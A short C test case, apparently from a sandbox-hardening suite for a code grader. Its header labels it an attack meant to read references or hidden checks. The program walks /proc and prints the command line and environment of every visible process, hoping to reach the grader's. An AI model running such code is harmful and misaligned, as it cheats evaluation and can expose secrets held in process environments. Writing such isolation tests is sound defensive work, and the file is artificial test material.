/* attack: print the command line and environment of every process it can see (the grader's?)
 * family: read references or hidden checks
 * target: getpid_test
 * expect: HOME=/box/work
 */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
static void dump(const char *path)
{
    char buf[8192];
    FILE *f = fopen(path, "r");
    if (!f) return;
    size_t n = fread(buf, 1, sizeof buf, f);
    for (size_t i = 0; i < n; i++) putchar(buf[i] ? buf[i] : '\n');
    fclose(f);
}
int main(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    char path[300];
    while (d && (e = readdir(d))) {
        if (atoi(e->d_name) <= 0) continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name); dump(path);
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name); dump(path);
    }
    return 1;
}
